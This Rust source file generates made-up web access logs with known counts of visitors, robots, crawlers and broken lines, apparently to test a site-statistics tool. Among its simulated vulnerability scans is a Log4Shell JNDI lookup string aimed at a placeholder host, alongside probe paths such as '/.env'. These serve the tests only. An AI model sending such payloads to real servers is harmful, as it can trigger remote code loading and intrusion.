//! Log lines for a site, made up, with what is true about them: for demonstrations, tests and measurements.
//!
//! Addresses are from ranges that nobody has (RFC 5737, RFC 2544, RFC 3849). Visitors are people with a browser each; some share
//! address and browser, as behind an office's proxy. Browsers ask for the style sheet as our header files let them. There are robots that
//! say what they are, robots that call themselves browsers, searches for holes, and lines that are broken.

use std::fmt::Write;
use std::io::{self, Cursor, Read};

use jiff::civil::Date;
use jiff::tz::TimeZone;

use super::data::Counts;
use super::pages::Pages;

/// What is true of the lines.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, serde::Serialize)]
pub struct Truth {
    /// Of people.
    pub people: Counts,
    /// All lines.
    pub lines: u64,
    /// Those that are no requests.
    pub malformed: u64,
}

/// Numbers that look random and are the same every time (splitmix64).
struct Numbers(u64);

impl Numbers {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    fn below(&mut self, most: u64) -> u64 {
        self.next() % most.max(1)
    }

    fn is_one_in(&mut self, many: u64) -> bool {
        self.below(many) == 0
    }

    /// The first more often than the second, and so on: by the square of an even number.
    fn skewed(&mut self, most: usize) -> usize {
        let share = self.below(1 << 20) as f64 / f64::from(1 << 20);
        ((share * share) * most as f64) as usize
    }
}

const BROWSERS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0",
];

const ROBOTS: [&str; 5] = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.2; +https://openai.com/gptbot",
    "curl/8.5.0",
];

const REFERRERS: [&str; 5] = [
    "-",
    "https://www.google.com/",
    "https://www.bing.com/",
    "https://www.socialstyrelsen.se/",
    "https://forum.example/",
];

const SEARCHES: [&str; 8] =
    ["avtal", "samordningsteam", "ekonomiskt+bist%C3%A5nd", "fia", "unga", "aktivitetskrav", "handlingsplan", "xyzzy"];

const HOLES: [&str; 4] = ["/wp-login.php", "/.env", "/phpmyadmin/", "/?x=${jndi:ldap://203.0.113.9/a}"];

const DAY: i64 = 86_400;
/// As long as our header files let a browser keep the style sheet.
const KEPT: i64 = 12 * 3600;

struct Person {
    address: String,
    browser: &'static str,
    /// When the style sheet was fetched.
    styled: i64,
}

/// Makes the lines of one day after the other.
pub struct Demo<'a> {
    pages: &'a Pages,
    /// Pages that people read, the most read first.
    read: Vec<u32>,
    numbers: Numbers,
    people: Vec<Person>,
    day: Date,
    visits_a_day: u64,
    /// Of the lines that have been made so far.
    pub truth: Truth,
}

impl<'a> Demo<'a> {
    /// From a day on, with about so many visits on a working day.
    pub fn new(pages: &'a Pages, first: Date, visits_a_day: u64, seed: u64) -> Demo<'a> {
        let mut numbers = Numbers(seed);
        let kinds = ["start", "example", "fia", "page", "search", "examples", "municipality", "term", "county"];
        let of_kind = |kind: &&str| -> Vec<u32> {
            let all = pages.all.iter().zip(0..).filter(|(page, _)| page.kind == *kind);
            all.map(|(_, number)| number).collect()
        };
        let read = kinds.iter().flat_map(of_kind).collect();
        // Of any two visits most are by different people, and somebody comes back now and then.
        let people = (0..visits_a_day * 8).map(|number| {
            // One in fifty shares the address and the browser of the one before.
            let own = if number % 50 == 49 { number - 1 } else { number };
            let browser = BROWSERS[(own % BROWSERS.len() as u64) as usize];
            Person { address: address(own), browser, styled: i64::MIN / 2 }
        });
        let people = people.collect();
        let _ = numbers.next();
        Demo { pages, read, numbers, people, day: first, visits_a_day, truth: Truth::default() }
    }

    /// The lines of the next day, in order of time.
    pub fn day(&mut self) -> String {
        let zone = TimeZone::get("Europe/Stockholm").unwrap_or(TimeZone::UTC);
        let start = self.day.to_zoned(zone.clone()).map_or(0, |moment| moment.timestamp().as_second());
        let offset = zone.to_offset(jiff::Timestamp::from_second(start + DAY / 2).unwrap_or_default()).seconds();
        let is_weekend = self.day.weekday().to_monday_zero_offset() > 4;
        let visits = if is_weekend { self.visits_a_day / 4 } else { self.visits_a_day };
        let mut lines: Vec<(i64, String)> = Vec::new();
        let mut seen: std::collections::BTreeMap<usize, Vec<i64>> = std::collections::BTreeMap::new();
        for _ in 0..visits {
            let person = self.numbers.skewed(self.people.len());
            // Mostly office hours, sometimes late.
            let hour = if self.numbers.is_one_in(8) { 18 + self.numbers.below(6) } else { 7 + self.numbers.below(10) };
            let begin = start + hour as i64 * 3600 + self.numbers.below(3600) as i64;
            self.visit(person, begin, start + DAY, offset, &mut lines, seen.entry(person).or_default());
        }
        for times in seen.values_mut() {
            times.sort_unstable();
            let pauses = times.windows(2).filter(|pair| pair[1] - pair[0] > i64::from(super::figures::PAUSE)).count();
            self.truth.people.page_views += times.len() as u64;
            self.truth.people.visits += pauses as u64 + 1;
            self.truth.people.visitor_days += 1;
        }
        self.others(visits, start, offset, &mut lines);
        lines.sort();
        self.truth.lines += lines.len() as u64;
        self.day = self.day.tomorrow().unwrap_or(self.day);
        lines.into_iter().fold(String::new(), |mut all, (_, line)| {
            all.push_str(&line);
            all.push('\n');
            all
        })
    }

    fn visit(
        &mut self,
        person: usize,
        begin: i64,
        end: i64,
        offset: i32,
        lines: &mut Vec<(i64, String)>,
        times: &mut Vec<i64>,
    ) {
        let mut time = begin;
        let mut referrer = REFERRERS[self.numbers.skewed(REFERRERS.len())].to_owned();
        for _ in 0..=self.numbers.skewed(9) {
            if time >= end || self.read.is_empty() {
                break;
            }
            let page = self.read[self.numbers.skewed(self.read.len())];
            let mut target = format!("{}{}", self.pages.base, self.pages.all[page as usize].address);
            if self.pages.is_search(page) {
                let _ = write!(target, "?q={}", SEARCHES[self.numbers.skewed(SEARCHES.len())]);
            }
            let own = &mut self.people[person];
            lines.push((time, line(&own.address, time, offset, "GET", &target, 200, &referrer, own.browser)));
            times.push(time);
            if time - own.styled >= KEPT {
                own.styled = time;
                let style = format!("{}/_a/style.0000000000.css", self.pages.base);
                lines.push((time, line(&own.address, time, offset, "GET", &style, 200, &referrer, own.browser)));
            }
            referrer = format!("https://{}{}", self.pages.host, target);
            time += 5 + self.numbers.below(400) as i64;
        }
    }

    /// Robots and broken lines.
    fn others(&mut self, visits: u64, start: i64, offset: i32, lines: &mut Vec<(i64, String)>) {
        let views = lines.len() as u64;
        for _ in 0..views * 3 / 10 {
            let time = start + self.numbers.below(DAY as u64) as i64;
            let page = self.read.get(self.numbers.below(self.read.len() as u64) as usize).copied().unwrap_or_default();
            let target = format!("{}{}", self.pages.base, self.pages.all[page as usize].address);
            let agent = ROBOTS[self.numbers.skewed(ROBOTS.len())];
            lines.push((time, line("203.0.113.7", time, offset, "GET", &target, 200, "-", agent)));
        }
        // A crawler that calls itself a browser takes many pages in a row, and no style sheet.
        for crawler in 0..1 + visits / 200 {
            let mut time = start + self.numbers.below(DAY as u64 - 3600) as i64;
            for _ in 0..15 + self.numbers.below(20) {
                let page =
                    self.read.get(self.numbers.below(self.read.len() as u64) as usize).copied().unwrap_or_default();
                let target = format!("{}{}", self.pages.base, self.pages.all[page as usize].address);
                let from = format!("198.51.100.{}", crawler % 250);
                lines.push((time, line(&from, time, offset, "GET", &target, 200, "-", BROWSERS[1])));
                time += 2;
            }
        }
        for _ in 0..views / 12 {
            let time = start + self.numbers.below(DAY as u64) as i64;
            let hole = HOLES[self.numbers.below(HOLES.len() as u64) as usize];
            lines.push((time, line("203.0.113.9", time, offset, "GET", hole, 404, "-", BROWSERS[1])));
        }
        for _ in 0..views.div_ceil(1000) {
            let time = start + self.numbers.below(DAY as u64) as i64;
            self.truth.malformed += 1;
            lines.push((time, "203.0.113.9 - - [broken \"\u{0}".to_owned()));
        }
    }
}

/// The lines of so many days as a log that is read.
pub struct DemoLog<'a> {
    demo: Demo<'a>,
    /// How many are left.
    days: usize,
    day: Cursor<String>,
}

impl<'a> DemoLog<'a> {
    /// The log of `demo` for so many days from its first.
    pub fn new(demo: Demo<'a>, days: usize) -> DemoLog<'a> {
        DemoLog { demo, days, day: Cursor::default() }
    }
}

impl Read for DemoLog<'_> {
    fn read(&mut self, into: &mut [u8]) -> io::Result<usize> {
        loop {
            match self.day.read(into)? {
                0 if self.days > 0 && !into.is_empty() => {
                    self.days -= 1;
                    self.day = Cursor::new(self.demo.day());
                }
                count => return Ok(count),
            }
        }
    }
}

/// The address of a person: one in four has IPv6.
fn address(number: u64) -> String {
    match number % 4 {
        3 => format!("2001:db8:{:x}:{:x}::{:x}", number >> 16, number & 0xffff, number % 9 + 1),
        _ => format!("198.{}.{}.{}", 18 + (number >> 16 & 1), number >> 8 & 255, number & 255),
    }
}

#[expect(clippy::too_many_arguments, reason = "a line has so many fields")]
fn line(
    address: &str,
    time: i64,
    offset: i32,
    method: &str,
    target: &str,
    status: u16,
    referrer: &str,
    agent: &str,
) -> String {
    let local = jiff::tz::Offset::from_seconds(offset).unwrap_or(jiff::tz::Offset::UTC);
    let moment = local.to_datetime(jiff::Timestamp::from_second(time).unwrap_or_default());
    let sign = if offset < 0 { '-' } else { '+' };
    let (hours, minutes) = (offset.abs() / 3600, offset.abs() / 60 % 60);
    let time = moment.strftime("%d/%b/%Y:%H:%M:%S");
    format!(
        "{address} - - [{time} {sign}{hours:02}{minutes:02}] \"{method} {target} HTTP/1.1\" {status} 5120 \"{referrer}\" \"{agent}\""
    )
}
